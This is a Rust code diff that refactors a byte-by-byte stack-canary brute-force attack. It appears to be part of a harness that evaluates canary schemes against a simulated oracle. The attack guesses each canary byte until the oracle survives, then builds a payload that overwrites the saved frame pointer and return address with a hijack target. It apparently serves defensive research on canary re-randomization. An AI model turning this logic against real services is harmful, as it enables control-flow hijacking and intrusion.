@@ -48,46 +48,48 @@ impl ByteByByteAttack {
         geometry: FrameGeometry,
         scheme: SchemeKind,
     ) -> AttackResult {
-        let mut recovered: Vec<u8> = Vec::with_capacity(geometry.canary_region_len);
+        // One payload buffer for the whole campaign: filler, the confirmed
+        // canary bytes, then the byte under guess — only that last byte
+        // changes between requests.
+        let filler = geometry.filler_len;
+        let mut payload = Vec::with_capacity(filler + geometry.canary_region_len + 16);
+        payload.resize(filler, FILLER);
         let mut trials = 0u64;
 
         for _byte_index in 0..geometry.canary_region_len {
-            let mut found = None;
+            let slot = payload.len();
+            payload.push(0);
+            let mut found = false;
             for guess in 0..=255u8 {
                 if trials >= self.max_trials {
                     return AttackResult::exhausted("byte-by-byte", scheme, trials);
                 }
-                let mut payload = vec![FILLER; geometry.filler_len];
-                payload.extend_from_slice(&recovered);
-                payload.push(guess);
+                payload[slot] = guess;
                 trials += 1;
                 if oracle.attempt(&payload).survived() {
-                    found = Some(guess);
+                    found = true;
                     break;
                 }
             }
-            match found {
-                Some(byte) => recovered.push(byte),
-                None => {
-                    // No value survived a full sweep: the canary changed under
-                    // our feet (re-randomization) — the attack cannot make
-                    // progress on this byte.
-                    return AttackResult {
-                        strategy: "byte-by-byte",
-                        scheme,
-                        success: false,
-                        trials,
-                        recovered_canary: Some(recovered),
-                        final_outcome: None,
-                    };
-                }
+            if !found {
+                // No value survived a full sweep: the canary changed under
+                // our feet (re-randomization) — the attack cannot make
+                // progress on this byte.
+                payload.pop();
+                return AttackResult {
+                    strategy: "byte-by-byte",
+                    scheme,
+                    success: false,
+                    trials,
+                    recovered_canary: Some(payload[filler..].to_vec()),
+                    final_outcome: None,
+                };
             }
         }
+        let recovered = payload[filler..].to_vec();
 
         // All canary bytes "recovered": fire the real exploit, overwriting the
         // saved frame pointer and the return address.
-        let mut payload = vec![FILLER; geometry.filler_len];
-        payload.extend_from_slice(&recovered);
         payload.extend_from_slice(&[FILLER; 8]); // saved %rbp — value irrelevant
         payload.extend_from_slice(&self.hijack_target.to_le_bytes());
         trials += 1;
